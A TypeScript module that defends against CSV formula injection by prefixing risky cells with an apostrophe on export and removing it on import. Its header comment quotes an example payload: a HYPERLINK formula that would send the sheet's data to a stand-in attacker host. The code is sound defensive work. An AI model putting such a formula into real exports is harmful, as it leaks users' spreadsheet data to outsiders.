/**
 * CSV formula injection (OWASP "CSV Injection"): a spreadsheet opening a CSV file treats a cell
 * that starts with `=`, `+`, `-`, `@`, tab or carriage return as a formula, so an item named
 * `=HYPERLINK("http://evil.example?"&A1,"Click")` would run in the reader's spreadsheet (and send
 * the sheet's data away). As OWASP recommends, text cells the app writes get a leading
 * apostrophe: spreadsheets then show the text as text and evaluate nothing.
 *
 * The two functions are inverses, so an export read back by the import gives every text back
 * unchanged, `-5 °C quilt` and `=HYPERLINK(...)` included. A text that already starts with
 * apostrophes before such a character gets one more, which the import takes off again.
 */

/** Apostrophes (any number, none included) and then a character that starts a formula. */
const FORMULA_START = /^'*[=+\-@\t\r]/;
/** What `neutraliseFormula` writes: at least one apostrophe before such a character. */
const NEUTRALISED = /^'+[=+\-@\t\r]/;

/** The text of a cell as written to a CSV file: prefixed with `'` if it could start a formula. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A cell read from a CSV file with the prefix `neutraliseFormula` adds taken off. */
export function restoreFormula(cell: string): string {
  return NEUTRALISED.test(cell) ? cell.slice(1) : cell;
}
